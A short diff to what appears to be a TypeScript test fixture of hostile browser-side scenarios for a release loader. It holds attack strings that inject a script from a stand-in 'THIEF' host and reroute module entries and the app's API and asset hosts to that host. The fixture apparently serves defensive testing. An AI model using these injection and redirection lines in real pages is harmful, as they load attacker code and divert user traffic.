@@ -207,7 +207,7 @@ export const IN_THE_BROWSER: readonly HostileRelease[] = [
       inEffect:
         "document.head.append(Object.assign(document.createElement('script'), { src: 'THIEF/script.js' }));",
     },
-    'the attempt throws, and counts as a failure of the part',
+    POLICY,
   ),
   runs(
     'runs-text-as-code',
@@ -236,7 +236,7 @@ export const IN_THE_BROWSER: readonly HostileRelease[] = [
     'changes what the page knows of the releases',
     {
       inEffect:
-        "for (const part of Object.values(window.rewaldState?.releases?.parts ?? {})) part.entry = 'THIEF/entry.js';",
+        "for (const part of Object.values(window.rewaldState?.releases?.parts ?? {})) part.entry = 'THIEF/entry.js'; Object.assign(window.rewaldState?.config ?? {}, { apiHost: 'THIEF', assetsHost: 'THIEF' });",
     },
     'what was read at the start counts',
   ),
